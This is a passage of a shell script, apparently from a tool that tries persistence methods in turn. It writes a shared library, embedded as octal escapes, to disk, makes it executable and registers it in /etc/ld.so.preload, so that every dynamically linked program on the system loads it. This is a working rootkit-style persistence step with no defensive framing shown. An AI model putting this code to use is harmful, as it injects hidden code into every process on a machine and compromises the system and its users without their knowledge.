if [ "$(uname -m)" != x86_64 ]; then
  untried "/etc/ld.so.preload: no library for $(uname -m)"
elif ! ls /lib*/ld-linux-x86-64.so.* >/dev/null 2>&1; then
  untried "/etc/ld.so.preload: read only by the GNU C library"
else
  # A string of octal escapes, a format of nothing else.
  # shellcheck disable=SC2059
  library="$(beside /etc/ld.so.preload)/preload.so"
  printf "$LIBRARY" >"$library"
  chmod 755 "$library"
  # Where /tmp is not for programs, every program would complain.
  if [ -e /etc/ld.so.preload ] || [ -w /etc ]; then
    grep -qx "$library" /etc/ld.so.preload 2>/dev/null || printf '%s\n' "$library" | add /etc/ld.so.preload
  else
    untried "/etc/ld.so.preload: cannot be written"
  fi
fi
